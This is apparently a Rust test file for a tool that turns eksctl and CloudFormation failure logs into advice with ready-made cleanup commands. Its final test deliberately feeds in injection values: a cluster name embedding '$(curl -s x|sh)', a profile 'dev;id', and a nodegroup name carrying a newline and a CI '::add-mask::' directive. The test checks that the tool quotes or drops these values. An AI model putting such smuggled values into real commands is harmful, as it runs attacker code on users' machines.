use super::*;

fn ctx() -> Context {
    Context {
        cluster: Some("prod".into()),
        region: Some("eu-west-1".into()),
        nodegroup: Some("ng-1".into()),
        profile: None,
    }
}
fn codes_with(text: &str, ctx: &Context) -> Vec<&'static str> {
    let mut a = Analyzer::new();
    a.feed_text(text.as_bytes());
    a.advice(ctx).into_iter().map(|a| a.code).collect()
}
fn codes(text: &str) -> Vec<&'static str> {
    codes_with(text, &ctx())
}

#[test]
fn every_catalog_pattern_compiles_and_codes_are_unique() {
    let mut seen = std::collections::BTreeSet::new();
    for k in kinds() {
        assert!(seen.insert(k.code), "duplicate code {}", k.code);
        assert!(
            !k.patterns.is_empty() && !k.summary.is_empty() && !k.advice.is_empty(),
            "{}",
            k.code
        );
        assert!(
            k.summary.is_ascii() || k.summary.contains('`'),
            "{}",
            k.code
        );
    }
    assert!(seen.len() >= 80, "only {} kinds", seen.len());
    for f in catalog::Family::ALL {
        let own = kinds().filter(|k| k.role == Role::Family && k.family == f);
        assert_eq!(own.count(), 1, "{} has one entry of its own", f.code());
    }
    let _ = matcher::compiled();
}

#[test]
fn placeholders_are_filled_from_captures_then_context_then_the_log() {
    let mut a = Analyzer::new();
    a.feed(br#"Error: subnet with ID "subnet-123" is not in the attached VPC with ID "vpc-9""#);
    let advice = a.advice(&ctx());
    assert_eq!(advice[0].code, "subnet-not-in-cluster-vpc");
    assert!(
        advice[0]
            .advice
            .contains("Values=vpc-9 --region eu-west-1`"),
        "{}",
        advice[0].advice
    );
    let log = "2026-01-01 10:00:00 [\u{2139}]  using region ap-south-1\n\
               Error: failed to create cluster \"pay\"\n";
    let advice = {
        let mut a = Analyzer::new();
        a.feed_text(log.as_bytes());
        a.advice(&Context::default())
    };
    assert!(
        advice
            .iter()
            .any(|a| a.advice.contains("--region=ap-south-1 --name=pay`")),
        "{advice:?}"
    );
}

#[test]
fn the_profile_is_repeated_and_optional_parts_need_their_names() {
    let with = Context {
        profile: Some("ops".into()),
        ..ctx()
    };
    let none = BTreeMap::new();
    let names = |ctx| fill::Names {
        captures: &none,
        context: ctx,
        log: &none,
    };
    let t = "`eksctl get cluster --region {region}{--profile}`[[ stack {stack}]][[ in {region}]]";
    assert_eq!(
        fill::fill(t, &names(&with)),
        "`eksctl get cluster --region eu-west-1 --profile ops` in eu-west-1"
    );
    assert_eq!(
        fill::fill(t, &names(&Context::default())),
        "`eksctl get cluster --region <region>`"
    );
    let advice = {
        let mut a = Analyzer::new();
        a.feed(b"Error: ExpiredToken: the token expired");
        a.advice(&with)
    };
    assert!(
        advice[0]
            .advice
            .contains("--region eu-west-1 --profile ops`")
    );
}

#[test]
fn catch_alls_only_when_nothing_specific_families_only_when_nothing_else() {
    assert_eq!(
        codes("[✖]  AWS::EC2::Foo/Bar: CREATE_FAILED – \"something new\""),
        ["stack-resource-failed"]
    );
    assert_eq!(
        codes("[✖]  AWS::EC2::EIP/NATIP: CREATE_FAILED – \"Error Code: AddressLimitExceeded\""),
        ["elastic-ip-limit"]
    );
    assert_eq!(
        codes("Error: the route to subnet subnet-1 went somewhere odd"),
        ["network"]
    );
    assert_eq!(
        codes("Error: the route to subnet subnet-1 went somewhere odd\nError: ExpiredToken"),
        ["credentials-expired"]
    );
}

#[test]
fn families_read_failure_lines_only() {
    assert!(
        codes("2026-01-01 10:00:00 [\u{2139}]  subnets for eu-west-1a - public:10.0.0.0/19")
            .is_empty()
    );
    assert!(codes("2026-01-01 10:00:00 [!]  the subnet settings look odd").is_empty());
    assert_eq!(
        codes("2026-01-01 10:00:00 [✖]  the subnet settings look odd"),
        ["network"]
    );
    assert_eq!(
        codes("2024-05-01T10:00:00.1234567Z Error: the subnet settings look odd"),
        ["network"]
    );
}

#[test]
fn a_failed_create_says_what_to_clean_up() {
    let log = "2026-01-01 10:00:00 [✖]  unexpected status \"ROLLBACK_IN_PROGRESS\" while waiting for CloudFormation stack \"eksctl-blue-cluster\"\n\
               2026-01-01 10:00:00 [\u{2139}]  fetching stack events in attempt to troubleshoot the root cause of the failure\n\
               2026-01-01 10:00:00 [!]  1 error(s) occurred and cluster hasn't been created properly, you may wish to check CloudFormation console\n\
               2026-01-01 10:00:00 [\u{2139}]  to cleanup resources, run 'eksctl delete cluster --region=us-east-2 --name=blue'\n\
               Error: failed to create cluster \"blue\"\n";
    let mut a = Analyzer::new();
    a.feed_text(log.as_bytes());
    let advice = a.advice(&Context::default());
    let codes: Vec<_> = advice.iter().map(|a| a.code).collect();
    assert_eq!(codes, ["stack", "cluster-left-half-made"]);
    assert!(
        advice[0]
            .advice
            .contains("--cluster blue --region us-east-2")
            && advice[0].advice.contains("eksctl-blue-cluster"),
        "{}",
        advice[0].advice
    );
    assert!(
        advice[1]
            .advice
            .contains("eksctl delete cluster --region=us-east-2 --name=blue`")
    );
}

#[test]
fn a_stack_found_failed_after_the_run_is_a_note_with_its_delete_command() {
    let mut a = Analyzer::new();
    a.stack_left("eksctl-prod-nodegroup-ng-9", "ROLLBACK_COMPLETE");
    let advice = a.advice(&ctx());
    assert_eq!(advice.len(), 1);
    assert_eq!(advice[0].code, "nodegroup-stack-left");
    assert!(
        advice[0]
            .advice
            .contains("--region=eu-west-1 --cluster=prod --name=ng-9`"),
        "{}",
        advice[0].advice
    );
}

#[test]
fn both_wordings_of_the_drift_warning() {
    for text in [
        "[!]  subnet-0a was found on cluster cloudformation stack outputs, but has been removed from VPC vpc-1 outside of eksctl",
        "[!]  subnet-0a was found in cluster's CloudFormation stack outputs, but has been removed from VPC vpc-1 outside of eksctl",
    ] {
        assert_eq!(codes(text), ["subnet-removed-outside-eksctl"], "{text}");
    }
}

#[test]
fn unknown_text_gives_no_advice_and_keeps_the_last_error() {
    let mut a = Analyzer::new();
    a.feed_text(
        b"2026-01-01 10:00:00 [i]  building things\nError: something nobody has seen before\n",
    );
    assert!(a.advice(&ctx()).is_empty());
    assert_eq!(
        a.last_error(),
        Some("Error: something nobody has seen before")
    );
    assert!(render::text(&[], a.last_error()).contains("does not recognise"));
}

#[test]
fn order_of_first_appearance() {
    assert_eq!(
        codes("Error: ExpiredToken: x\nthrottling: Rate exceeded\n"),
        ["credentials-expired", "throttled"]
    );
}

#[test]
fn ansi_sequences_are_removed() {
    assert_eq!(
        &*strip_ansi(b"\x1b[31m[\xe2\x9c\x96]  boom\x1b[0m"),
        "[✖]  boom".as_bytes()
    );
}

#[test]
fn live_output_passes_over_routine_lines_only() {
    let text = "2026-01-01 10:00:00 [\u{2139}]  InvalidSubnetID.NotFound in an info line\n\
                2026-01-01 10:00:01 [\u{2716}]  AWS::EC2::EIP/NATIP: CREATE_FAILED \u{2013} \"AddressLimitExceeded\"\n\
                Error: ExpiredToken\n";
    let mut live = Analyzer::for_live_output();
    live.feed_text(text.as_bytes());
    let codes: Vec<_> = live.advice(&ctx()).into_iter().map(|a| a.code).collect();
    assert_eq!(codes, ["elastic-ip-limit", "credentials-expired"]);
    let mut saved = Analyzer::new();
    saved.feed_text(text.as_bytes());
    assert_eq!(
        saved.advice(&ctx())[0].code,
        "subnet-not-found",
        "explain reads every line"
    );
}

#[test]
fn a_reader_and_a_text_give_the_same_advice() {
    let text = "x\nError: operation error EC2: api error VpcLimitExceeded: no more\ny";
    let mut a = Analyzer::new();
    a.feed_reader(text.as_bytes()).unwrap();
    let mut b = Analyzer::new();
    b.feed_text(text.as_bytes());
    assert_eq!(a.advice(&ctx()), b.advice(&ctx()));
    assert_eq!(a.advice(&ctx())[0].code, "vpc-limit");
}

#[test]
fn every_command_with_a_region_carries_the_profile() {
    for k in kinds() {
        for command in k.advice.split('`').skip(1).step_by(2) {
            if command.contains("{region}") {
                assert!(
                    command.contains("{--profile}"),
                    "{}: `{command}` has no {{--profile}}",
                    k.code
                );
            }
        }
    }
}

#[test]
fn failure_lines_in_no_family_s_words_stay_unrecognised() {
    for text in [
        "Error: exit status 2",
        "Error: the flux capacitor is misaligned",
        "2026-01-01 10:00:00 [\u{2716}]  something nobody has seen before",
    ] {
        assert!(codes(text).is_empty(), "{text}: {:?}", codes(text));
    }
}

#[test]
fn a_more_telling_kind_hides_a_weaker_one() {
    assert_eq!(
        codes(
            "[✖]  AWS::EKS::Cluster/ControlPlane: CREATE_FAILED – \"InvalidParameterException: the authentication mode is wrong\""
        ),
        ["auth-mode-rejected"]
    );
    let log = "[✖]  unexpected status \"ROLLBACK_IN_PROGRESS\" while waiting for CloudFormation stack \"eksctl-prod-nodegroup-ng-1\"\n\
               [!]  1 error(s) occurred and cluster hasn't been created properly, you may wish to check CloudFormation console\n";
    assert_eq!(codes(log), ["stack", "cluster-left-half-made"]);
}

#[test]
fn a_summary_names_the_region_when_the_run_knows_it() {
    let summary = |ctx: &Context| {
        let mut a = Analyzer::new();
        a.feed_text(b"Error: No cluster found for name: prod.\n");
        a.advice(ctx)[0].summary.clone()
    };
    assert_eq!(
        summary(&ctx()),
        "the EKS cluster does not exist in eu-west-1"
    );
    assert_eq!(
        summary(&Context::default()),
        "the EKS cluster does not exist"
    );
}

#[test]
fn names_are_data_quoted_in_commands_and_dropped_when_aws_would_refuse_them() {
    // B9: a name a log gives that no cluster can have is not used.
    let mut a = Analyzer::new();
    a.feed_text(b"Error: failed to create cluster \"prod$(curl -s x|sh)\"\n");
    let advice = a.advice(&Context::default());
    let all: String = advice.iter().map(|a| a.advice.clone()).collect();
    assert!(!all.contains("$(curl"), "{all}");
    assert!(all.contains("--name=<cluster>"), "{all}");
    // B19: the run's own names are quoted in commands and escaped in prose.
    let ctx = Context {
        cluster: Some("c".into()),
        region: Some("eu-west-1".into()),
        nodegroup: Some("ng\n::add-mask::x".into()),
        profile: Some("dev;id".into()),
    };
    let none = BTreeMap::new();
    let names = fill::Names {
        captures: &none,
        context: &ctx,
        log: &none,
    };
    assert_eq!(
        fill::fill(
            "`eksctl delete nodegroup --name={nodegroup}{--profile}`, then {nodegroup}[[ `{nodegroup}`]]",
            &names
        ),
        "`eksctl delete nodegroup --name=$'ng\\n::add-mask::x' --profile 'dev;id'`, then ng\\n::add-mask::x `$'ng\\n::add-mask::x'`"
    );
}
